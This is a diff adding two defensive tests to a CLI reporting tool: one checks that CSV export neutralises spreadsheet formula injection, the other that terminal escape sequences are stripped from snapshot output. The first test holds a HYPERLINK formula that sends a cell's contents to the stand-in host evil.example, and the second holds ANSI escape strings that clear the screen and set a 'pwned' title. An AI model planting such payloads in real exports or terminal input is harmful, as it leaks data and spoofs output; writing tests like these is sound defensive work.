@@ -133,3 +133,25 @@ def test_report_command_and_its_errors(scenario_run, tmp_path):
     assert month.exit_code == 1 and "not YYYY-MM" in month.output
     empty = runner.invoke(main, ["report", "--period", "2026-10", "--home", str(tmp_path / "nothing")])
     assert empty.exit_code == 1 and "run the pipeline first" in empty.output
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_neutralised(scenario_copy, tmp_path):
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"refund")'
+    with duckdb.connect(str(scenario_copy.warehouse)) as con:
+        con.execute("update marts.fct_sla_compliance set customer = ? where contract_name = 'acme'", [formula])
+        con.execute("update marts.fct_sla_compliance set customer = '@SUM(1+1)' where contract_name = 'strict'")
+    [path] = write_report(scenario_copy.warehouse, "2026-10", ["csv"], tmp_path)
+    rows = {r["contract"]: r for r in csv.DictReader(path.open())}
+    assert rows["acme"]["customer"] == "'" + formula and rows["strict"]["customer"] == "'@SUM(1+1)"
+    assert rows["strict"]["credit_amount"] == "308.65"  # numbers are left as they are
+
+
+def test_snapshot_show_and_list_drop_terminal_control_characters(scenario_copy):
+    runner, home = CliRunner(), ["--home", str(scenario_copy.home)]
+    env = {"SLM_CATALOG": str(scenario_copy.catalog), "SLM_LANDING": scenario_copy.landing}
+    assert runner.invoke(main, ["snapshot", "create", "--period", "2026-10", *home], env=env).exit_code == 0
+    held = runner.invoke(main, ["snapshot", "hold", "000001-2026-10", "--reason", "matter \x1b[2J\x1b[31m17\x07",
+                                "--by", "eve\x1b]0;pwned\x07", *home])
+    assert held.exit_code == 0 and "\x1b" not in held.output
+    shown = runner.invoke(main, ["snapshot", "show", "000001-2026-10", *home])
+    assert "by eve]0;pwned: matter [2J[31m17" in shown.stderr and "\x1b" not in shown.stderr + shown.stdout
